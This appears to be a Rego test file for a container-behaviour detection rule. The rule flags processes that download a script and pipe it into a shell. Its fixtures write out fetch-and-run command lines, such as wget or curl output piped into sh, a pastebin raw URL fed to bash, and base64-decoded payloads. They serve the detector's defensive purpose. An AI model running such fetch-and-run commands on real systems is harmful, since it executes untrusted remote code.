package sallyport.behaviours.initial_execution["pipe-download-shell_test"]

import data.sallyport.behaviours.initial_execution["pipe-download-shell"] as rule
import data.sallyport.fixture as f

# curl … | sh, as the given programs, from the given place.
piped(downloader, shell, flow, request) := f.observation({
	"processes": [
		f.process(20, downloader, {"stdio": [null, f.pipe(77), null]}),
		f.process(21, shell, {"stdio": [f.pipe(77), null, null], "pipe_from": ["20.0"]}),
	],
	"flows": [flow],
	"http": [request],
})

by_address := f.flow("20.0", "198.18.7.9", 80, {"direct": true, "app": "http"})

by_name(host, parts) := f.flow("20.0", "198.18.0.9", 443, object.union({"domain": host, "app": "tls"}, parts))

test_plain_http_from_an_address if {
	every shell in [["/bin/sh"], ["/bin/bash", "-s", "--", "arg"], ["/bin/bash", "-ex"], ["/usr/bin/python3", "-"], ["/bin/busybox", "sh"]] {
		found := rule.finding with input as piped(
			["/usr/bin/wget", "-q", "-O", "-", "http://198.18.7.9/d.sh"], shell,
			by_address, f.request(by_address, "GET", "/d.sh", {}),
		)
		f.malicious(found)
		f.pointed(found)
	}
}

# eval "$(curl …)": nothing but the shell that was there runs.
taken_in(ran, payload) := object.union(
	f.observation({
		"processes": [f.process(20, ["/usr/bin/curl", "-s", "http://198.18.7.9/d.sh"], {})],
		"flows": [by_address],
		"http": [f.request(by_address, "GET", "/d.sh", {"payload": payload})],
	}),
	{"run": {"marker_ran": ran}},
)

test_taken_in_by_a_shell if {
	found := rule.finding with input as taken_in(true, "script")
	f.malicious(found)
	f.pointed(found)
}

test_not_only_fetched if {
	count(rule.finding) == 0 with input as taken_in(false, "script")
	count(rule.finding) == 0 with input as taken_in(true, "elf")
}

# A script that was piped prints as well, and is told once.
test_told_once if {
	piped_in := piped(["/usr/bin/curl", "-s", "http://198.18.7.9/d.sh"], ["/bin/sh"], by_address, f.request(by_address, "GET", "/d.sh", {"payload": "script"}))
	found := rule.finding with input as object.union(piped_in, {"run": {"marker_ran": true}})
	count(found) == 1
}

test_paste_host if {
	flow := by_name("pastebin.com", {})
	found := rule.finding with input as piped(
		["/usr/bin/curl", "-fsSL", "https://pastebin.com/raw/x"], ["/bin/bash"],
		flow, f.request(flow, "GET", "/raw/x", {"tls": true}),
	)
	f.malicious(found)
}

# A host that nobody knows is no proof, but the image runs what is not in it.
test_unknown_host_is_high if {
	flow := by_name("get.tool.example", {})
	found := rule.finding with input as piped(
		["/usr/bin/curl", "-fsSL", "https://get.tool.example"], ["/bin/sh"],
		flow, f.request(flow, "GET", "/", {"tls": true}),
	)
	count(found) == 1
	not f.malicious(found)
}

test_decoded_again if {
	flow := by_name("get.tool.example", {})
	found := rule.finding with input as f.observation({
		"processes": [
			f.process(20, ["/usr/bin/curl", "https://get.tool.example/x"], {"stdio": [null, f.pipe(77), null]}),
			f.process(21, ["/usr/bin/base64", "-d"], {"stdio": [f.pipe(77), f.pipe(78), null], "pipe_from": ["20.0"], "decodes": true}),
			f.process(22, ["/bin/sh"], {"stdio": [f.pipe(78), null, null], "pipe_from": ["21.0"]}),
		],
		"flows": [flow],
		"http": [f.request(flow, "GET", "/x", {"tls": true})],
	})
	f.malicious(found)
}

# Line ends are no code.
test_filtered_is_not_decoded if {
	flow := by_name("get.tool.example", {})
	found := rule.finding with input as f.observation({
		"processes": [
			f.process(20, ["/usr/bin/curl", "https://get.tool.example/x"], {"stdio": [null, f.pipe(77), null]}),
			f.process(21, ["/usr/bin/tr", "-d", "\\r"], {"stdio": [f.pipe(77), f.pipe(78), null], "pipe_from": ["20.0"]}),
			f.process(22, ["/bin/sh"], {"stdio": [f.pipe(78), null, null], "pipe_from": ["21.0"]}),
		],
		"flows": [flow],
		"http": [f.request(flow, "GET", "/x", {"tls": true})],
	})
	count(found) == 1
	not f.malicious(found)
}

# sh -c "$(curl …)" and bash <(curl …) are the same in other words.
test_as_argument if {
	body := "#!/bin/sh\necho hello"
	flow := object.union(by_address, {"process": "20.0"})
	found := rule.finding with input as f.observation({
		"processes": [
			f.process(20, ["/usr/bin/curl", "-s", "http://198.18.7.9/i.sh"], {"stdio": [null, f.pipe(77), null]}),
			f.process(60, ["/bin/sh", "-c", body], {}),
		],
		"flows": [flow],
		"http": [f.request(flow, "GET", "/i.sh", {"sha256": crypto.sha256(concat("", [body, "\n"]))})],
	})
	f.malicious(found)
}

test_as_substituted_file if {
	found := rule.finding with input as f.observation({
		"processes": [
			f.process(20, ["/usr/bin/curl", "-s", "http://198.18.7.9/i.sh"], {"stdio": [null, f.pipe(77), null]}),
			f.process(21, ["/bin/bash", "/dev/fd/63"], {"script": "/dev/fd/63"}),
		],
		"flows": [by_address],
		"http": [f.request(by_address, "GET", "/i.sh", {})],
	})
	f.malicious(found)
}

# Python fetching and piping into a shell is a downloader too.
test_interpreter_as_downloader if {
	found := rule.finding with input as piped(
		["/usr/bin/python3", "-c", "import urllib.request as u; print(u.urlopen('http://198.18.7.9/x').read())"], ["/bin/sh"],
		by_address, f.request(by_address, "GET", "/x", {}),
	)
	f.malicious(found)
}

test_not_vendor_installer_over_tls if {
	flow := by_name("sh.rustup.rs", {})
	found := rule.finding with input as piped(
		["/usr/bin/curl", "--proto", "=https", "-sSf", "https://sh.rustup.rs"], ["/bin/sh"],
		flow, f.request(flow, "GET", "/", {"tls": true}),
	)
	count(found) == 0
}

# Without TLS the name proves nothing.
test_vendor_installer_without_tls if {
	flow := f.flow("20.0", "198.18.0.9", 80, {"domain": "sh.rustup.rs", "app": "http"})
	found := rule.finding with input as piped(
		["/usr/bin/curl", "http://sh.rustup.rs"], ["/bin/sh"],
		flow, f.request(flow, "GET", "/", {}),
	)
	count(found) == 1
}

test_not_when_download_is_data if {
	every reader in [["/bin/tar", "-xz"], ["/bin/sh", "-c", "cat > /tmp/x"], ["/usr/bin/jq", ".version"], ["/usr/bin/python3", "-m", "json.tool"]] {
		found := rule.finding with input as piped(
			["/usr/bin/curl", "http://198.18.7.9/x"], reader,
			by_address, f.request(by_address, "GET", "/x", {}),
		)
		count(found) == 0
	}
}

# A generator of code that talks to nobody.
test_not_without_network if {
	found := rule.finding with input as f.observation({"processes": [
		f.process(20, ["/usr/bin/python3", "/app/generate.py"], {"stdio": [null, f.pipe(77), null], "script": "/app/generate.py"}),
		f.process(21, ["/bin/sh"], {"stdio": [f.pipe(77), null, null], "pipe_from": ["20.0"]}),
	]})
	count(found) == 0
}

test_not_from_the_container_itself if {
	found := rule.finding with input as f.observation({"processes": [
		f.process(20, ["/usr/bin/curl", "http://localhost:8080/env.sh"], {"stdio": [null, f.pipe(77), null]}),
		f.process(21, ["/bin/sh"], {"stdio": [f.pipe(77), null, null], "pipe_from": ["20.0"]}),
	]})
	count(found) == 0
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["pipe-download-shell.address", "pipe-download-shell.name"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["pipe-download-shell.local-file", "pipe-download-shell.only-data", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
